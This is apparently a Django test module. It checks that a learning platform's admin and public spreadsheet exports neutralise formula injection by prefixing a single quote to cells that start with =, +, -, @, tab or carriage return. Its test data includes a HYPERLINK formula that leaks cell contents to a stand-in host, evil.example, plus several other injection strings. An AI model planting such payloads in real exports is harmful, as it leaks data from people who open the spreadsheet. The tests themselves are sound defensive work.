"""No exported spreadsheet runs what a learner or an editor typed.

A learner called "=HYPERLINK(…)" (or "+1", "@SUM(…)", an email address such as "-2+3@…") was a
live formula in the admin's Orders and Enrolments exports, and a credential titled so was one in
the employer's /skills/results.csv: spreadsheets run a cell that starts with = + - @ (or a tab or
carriage return) as a formula. Each such text cell now starts with a single quote (OWASP's advice),
its text otherwise intact, while amounts and dates stay values a spreadsheet can add up.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from checkout.models import Refund
from checkout.services import create_order, fulfil_order
from tests.builders import make_credential

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your receipt")'
# Full names and email addresses (an account without a name is shown by its address).
LEARNERS = [
    {"first_name": HYPERLINK, "email": "hyperlink@example.org"},
    {"first_name": "+1", "email": "plus@example.org"},
    {"first_name": "@SUM(1+1)", "email": "at@example.org"},
    {"first_name": "", "email": "-2+3@example.org"},
]
# A full name is stripped of surrounding spaces, so tab and carriage return come in a title.
TAB_TITLE = "\tx"
CR_TITLE = "\r=1+1"


def body_of(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(body_of(response).decode())))


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(body_of(response)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def assert_no_cell_is_a_formula(rows):
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert texts, "nothing was exported"
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def orders(partner, framework):
    """One paid $25 order and enrolment per dangerous learner, in a credential with a dangerous title."""
    tabbed = make_credential(partner, framework[1][:1], price=Decimal("25.00"), title=TAB_TITLE)
    returned = make_credential(partner, framework[1][:1], price=Decimal("25.00"), title=CR_TITLE)
    made = []
    for i, fields in enumerate(LEARNERS):
        learner = get_user_model().objects.create_user(password="x", **fields)
        order = create_order(learner, (tabbed if i % 2 else returned).pk)
        fulfil_order(order.pk, 2500, "USD")
        made.append(order)
    return made


@pytest.fixture
def superuser_client(client, site_tree):
    admin = get_user_model().objects.create_superuser(email="staff@example.edu", password="pw")
    client.force_login(admin)
    return client


def expected_users():
    return {"'" + (fields["first_name"] or fields["email"]) for fields in LEARNERS}


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_admin_orders_export_neutralises_learner_names(superuser_client, orders, export):
    response = superuser_client.get(reverse("orders:index"), {"export": export})
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    assert_no_cell_is_a_formula(rows)
    assert set(column(rows, "User")) == expected_users()
    assert sorted(column(rows, "Number")) == sorted(order.number for order in orders)
    totals = column(rows, "Total")
    if export == "csv":
        assert [Decimal(total) for total in totals] == [Decimal("25.00")] * len(orders)
    else:
        assert all(isinstance(total, int | float) and total == 25 for total in totals), totals


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_admin_enrolments_export_neutralises_names_and_titles(superuser_client, orders, export):
    response = superuser_client.get(reverse("enrolments:index"), {"export": export})
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    assert_no_cell_is_a_formula(rows)
    assert set(column(rows, "User")) == expected_users()
    # An XLSX is XML, whose readers turn a carriage return into a line feed.
    cr_title = CR_TITLE if export == "csv" else CR_TITLE.replace("\r", "\n")
    assert set(column(rows, "Microcredential")) == {"'" + TAB_TITLE, "'" + cr_title}
    assert sorted(column(rows, "Order")) == sorted(order.number for order in orders)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_admin_refunds_export_keeps_a_negative_amount_a_number(superuser_client, orders, export):
    Refund.objects.create(order=orders[0], amount=Decimal("-5.00"), reason="-chargeback reversal")
    response = superuser_client.get(reverse("refunds:index"), {"export": export})
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    assert column(rows, "Reason") == ["'-chargeback reversal"]
    [amount] = column(rows, "Amount")
    if export == "csv":
        assert amount == "-5.00"
    else:
        assert isinstance(amount, int | float) and amount == -5, amount


def test_skills_results_csv_neutralises_credential_titles(client, partner, framework):
    _, competencies = framework
    make_credential(partner, competencies[:1], title=HYPERLINK, price=Decimal("95"))
    make_credential(partner, competencies[:1], title="@SUM(A1:A9)", price=Decimal("0"))
    response = client.get("/skills/results.csv", {"competency": competencies[0].pk})
    rows = csv_rows(response)
    assert_no_cell_is_a_formula(rows)
    assert sorted(column(rows, "credential")) == sorted(["'" + HYPERLINK, "'@SUM(A1:A9)"])
    assert sorted(Decimal(price) for price in column(rows, "price_usd")) == [Decimal("0"), Decimal("95")]


def test_admin_xlsx_export_survives_a_control_character_in_a_name(superuser_client, partner, framework):
    # openpyxl refuses a workbook holding one (XML cannot): the whole export was a 500.
    course = make_credential(partner, framework[1][:1], price=Decimal("25.00"), title="Bell\x07")
    learner = get_user_model().objects.create_user(email="a@example.org", password="x", first_name="Ana\x01")
    fulfil_order(create_order(learner, course.pk).pk, 2500, "USD")
    rows = xlsx_rows(superuser_client.get(reverse("enrolments:index"), {"export": "xlsx"}))
    assert column(rows, "User") == ["Ana\ufffd"] and column(rows, "Microcredential") == ["Bell\ufffd"]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_admin_microcredentials_export_neutralises_titles(superuser_client, partner, export):
    # A page listing (Wagtail's PageListingViewSet), not a model viewset: the same hooks cover it.
    make_credential(partner, title="+44 Leadership", price=Decimal("25.00"))
    rows = csv_rows if export == "csv" else xlsx_rows
    rows = rows(superuser_client.get(reverse("microcredentials:index"), {"export": export}))
    assert_no_cell_is_a_formula(rows)
    assert column(rows, "Title") == ["'+44 Leadership"]
    [price] = column(rows, "Price (USD)")
    assert Decimal(price) == 25 if export == "csv" else isinstance(price, int | float) and price == 25
